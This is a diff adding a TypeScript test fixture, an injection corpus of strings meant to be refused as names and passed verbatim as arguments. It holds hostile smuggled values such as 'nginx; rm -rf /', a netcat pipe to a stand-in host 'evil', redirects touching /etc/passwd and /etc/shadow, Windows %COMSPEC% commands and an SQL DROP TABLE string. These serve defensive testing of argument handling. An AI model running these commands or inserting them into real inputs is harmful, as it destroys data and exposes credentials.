@@ -1,0 +1,36 @@
+/**
+ * Strings a hostile or careless policy could put where a name or an argument goes. Each must be
+ * refused as a name, and passed verbatim as one argument, never interpreted.
+ */
+export const INJECTION_CORPUS: readonly string[] = [
+  'nginx; rm -rf /',
+  'nginx & calc.exe',
+  'nginx && whoami',
+  'nginx | nc evil 4444',
+  'nginx || true',
+  '$(id)',
+  '`id`',
+  '${IFS}id',
+  '"quoted" name',
+  "it's",
+  '%COMSPEC% /c dir',
+  '%PATH%',
+  '^&whoami',
+  'a\nb',
+  'a\r\nsecond line',
+  'tab\tseparated',
+  'nginx > /etc/passwd',
+  'nginx < /etc/shadow',
+  '*',
+  '?',
+  '[abc]',
+  '~root',
+  '--help',
+  '-H evil.example',
+  '/c dir',
+  "'; DROP TABLE x; --",
+  '"; & echo pwned & "',
+  '\\"\\\\"',
+  'a'.repeat(10_000),
+  ';&|$()`"\'%COMSPEC%\n'.repeat(500),
+];
